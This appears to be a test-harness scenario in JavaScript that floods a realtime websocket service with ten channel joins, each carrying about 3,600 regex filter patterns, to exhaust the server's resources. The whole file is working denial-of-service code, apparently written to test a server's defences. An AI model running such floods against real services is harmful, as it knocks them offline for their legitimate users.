export const name = 'one live join with 3,600 patterns, ten times';

const JOINS = 10;
const FILTERS = 8;
const PATTERNS = 453;

/** Each frame is small; what it asks for must not be. */
export async function attack(server) {
  const attacker = await server.signUp('Asha Attacker');
  const address = `${server.url.replace('http', 'ws')}/realtime/v1/websocket?apikey=${server.anonKey}&vsn=2.0.0`;
  const socket = new WebSocket(address);
  await new Promise((resolve, reject) => {
    socket.onopen = resolve;
    socket.onerror = reject;
  });
  let answered = 0;
  const done = new Promise((resolve) => {
    socket.onmessage = ({ data }) => {
      if (String(data).includes('phx_reply')) answered += 1;
      if (answered === JOINS) resolve();
    };
    socket.onclose = resolve;
  });
  for (let join = 0; join < JOINS; join += 1) {
    const entries = Array.from({ length: FILTERS }, (_, filter) => ({
      event: '*',
      schema: 'public',
      table: 'posts',
      filter: Array.from({ length: PATTERNS }, (_, n) => `content=match.\\w${join}${filter}${n}`).join(','),
    }));
    const payload = { config: { postgres_changes: entries }, access_token: attacker.token };
    socket.send(JSON.stringify([String(join), String(join), `realtime:${join}`, 'phx_join', payload]));
  }
  await done;
  socket.close();
}
